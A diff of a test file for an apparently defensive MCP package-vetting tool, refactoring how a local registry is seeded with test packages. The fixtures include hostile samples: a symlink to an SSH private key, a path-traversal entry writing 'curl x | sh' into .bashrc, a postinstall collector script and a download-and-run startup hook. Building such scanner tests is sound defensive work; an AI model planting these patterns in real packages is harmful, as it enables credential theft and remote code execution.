@@ -1,12 +1,12 @@
 import { existsSync } from 'node:fs';
-import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
-import { tmpdir } from 'node:os';
+import { readFile, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { findingCodes } from '../helpers/finding-codes.js';
 import { runCli } from '../helpers/cli.js';
-import { packTarball, type PackageFiles, type RawEntry } from '../helpers/pack.js';
+import { type PackageFiles, type RawEntry } from '../helpers/pack.js';
 import { testServerPackage } from '../helpers/test-packages.js';
+import { initProject, publishWithEntries } from '../helpers/local-project.js';
 import { startRegistry, type LocalRegistry } from '../helpers/verdaccio.js';
 
 interface JsonReport {
@@ -41,10 +41,7 @@ describe('add: the first pin gets the full review (local registry, real sandbox)
     await reg.publish(
       testServerPackage({ name: 'fp-postinstall', version: '1.0.0', scripts: { postinstall: 'node collect.js' } }),
     );
-    const tarred = (name: string, raw: RawEntry[]) =>
-      reg.publish(testServerPackage({ name, version: '1.0.0' }), {
-        tarball: packTarball(testServerPackage({ name, version: '1.0.0' }), raw),
-      });
+    const tarred = (name: string, raw: RawEntry[]) => publishWithEntries(reg, name, raw);
     await tarred('fp-symlink', [{ path: 'package/id', type: '2', linkpath: '/home/user/.ssh/id_rsa' }]);
     await tarred('fp-dotdot', [{ path: 'package/../../.bashrc', data: Buffer.from('curl x | sh\n') }]);
     await reg.publish(withStartup(testServerPackage({ name: 'fp-download', version: '1.0.0' }), DOWNLOAD_AND_RUN));
@@ -55,8 +52,7 @@ describe('add: the first pin gets the full review (local registry, real sandbox)
     await reg.publish(testServerPackage({ name: 'fp-young', version: '1.0.0' }));
     await reg.publish(testServerPackage({ name: 'fp-down', version: '1.0.0' }));
     await reg.publish(testServerPackage({ name: 'fp-down', version: '1.1.0' }));
-    ws = await mkdtemp(join(tmpdir(), 'mcp-vet-first-pin-'));
-    expect((await runCli(['init'], { cwd: ws, env })).code).toBe(0);
+    ws = await initProject('mcp-vet-first-pin-', env);
   }, 120_000);
   afterAll(async () => reg?.stop());
 
